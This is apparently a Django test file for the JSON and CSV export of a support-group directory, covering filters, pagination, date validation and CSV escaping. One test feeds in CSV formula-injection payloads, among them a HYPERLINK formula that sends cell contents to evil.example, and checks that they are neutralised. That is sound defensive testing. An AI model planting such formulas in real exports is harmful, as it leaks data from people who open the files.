import csv
import datetime
import io

import pytest
from django.utils import timezone

from directory.models import Group
from tests.factories import make_group, make_organisation

pytestmark = pytest.mark.django_db


def test_json_export_uses_hsds_style_fields_and_filters(client, reference):
    make_group(audiences=["caregivers"], languages=["nl", "ar"])
    make_group(audiences=["parents"])
    make_group(published=False)
    response = client.get("/en/groups/data.json", {"audience": "caregivers"})
    assert response.status_code == 200
    data = response.json()
    assert data["total_items"] == 1
    record = data["contents"][0]
    assert record["languages"] == ["nl", "ar"]
    assert record["audiences"] == ["caregivers"]
    assert record["location"]["city_refnis"] == "21004"
    assert record["schedule"]["byday"] == "TU"
    for key in ("id", "name", "organization", "attendance", "fees", "status", "assured_date"):
        assert key in record


def test_export_is_paginated(client, reference):
    for _ in range(101):
        make_group()
    first = client.get("/en/groups/data.json").json()
    assert (first["size"], first["total_pages"], first["last_page"]) == (100, 2, False)
    second = client.get("/en/groups/data.json", {"page": 2}).json()
    assert second["size"] == 1
    assert second["previous"]


def test_modified_after(client, reference):
    old = make_group()
    Group.objects.filter(pk=old.pk).update(updated_at=timezone.now() - datetime.timedelta(days=30))
    new = make_group()
    since = (timezone.now() - datetime.timedelta(days=1)).date().isoformat()
    data = client.get("/en/groups/data.json", {"modified_after": since}).json()
    assert [r["id"] for r in data["contents"]] == [str(new.pk)]
    # The same moment in the extreme time zones.
    since = (timezone.now() - datetime.timedelta(days=1)).replace(microsecond=0)
    for hours in (14, -12, 0):
        moment = since.astimezone(datetime.timezone(datetime.timedelta(hours=hours))).isoformat()
        data = client.get("/en/groups/data.json", {"modified_after": moment}).json()
        assert [r["id"] for r in data["contents"]] == [str(new.pk)], moment


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("2026-01-01T00:00:00+16:00", "between -14:00 and +14:00"),  # a 500 on PostgreSQL
        ("2026-01-01T00:00:00-15:30", "between -14:00 and +14:00"),
        ("0001-01-01T00:00:00+01:00", "out of range"),
        ("yesterday-ish", "ISO 8601"),  # was ignored: the whole list, as if it were the changes
        ("2026-02-30", "ISO 8601"),
        ("2026-01-01T25:00:00", "ISO 8601"),
        ("2026-01-01\x00", "ISO 8601"),
    ],
)
def test_a_modified_after_that_cannot_be_used_is_a_clear_400(client, reference, value, message):
    make_group()
    response = client.get("/en/groups/data.json", {"modified_after": value})
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert message in response.json()["error"]
    response = client.get("/en/groups/data.csv", {"modified_after": value})
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert message in response.content.decode()


def test_csv_export(client, reference):
    make_group(name_en='Grief, loss and "hope"')
    response = client.get("/fr/groupes/data.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == 1
    assert rows[0]["city_refnis"] == "21004"
    assert rows[0]["fees"] == "free"


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_guarded(client, reference, hostile):
    make_group(
        name_en=hostile,
        summary_en=hostile,
        schedule_note_en=hostile,
        registration_email="=1+2@example.be",
        organisation=make_organisation(name=hostile),
    )
    response = client.get("/en/groups/data.csv")
    row = next(csv.DictReader(io.StringIO(response.content.decode())))
    for column in ("name", "description", "organization_name", "schedule_description"):
        assert row[column] == f"'{hostile}", column
    assert row["email"] == "'=1+2@example.be"
    # The JSON is data, not a spreadsheet: the same text, unguarded.
    record = client.get("/en/groups/data.json").json()["contents"][0]
    assert record["name"] == hostile
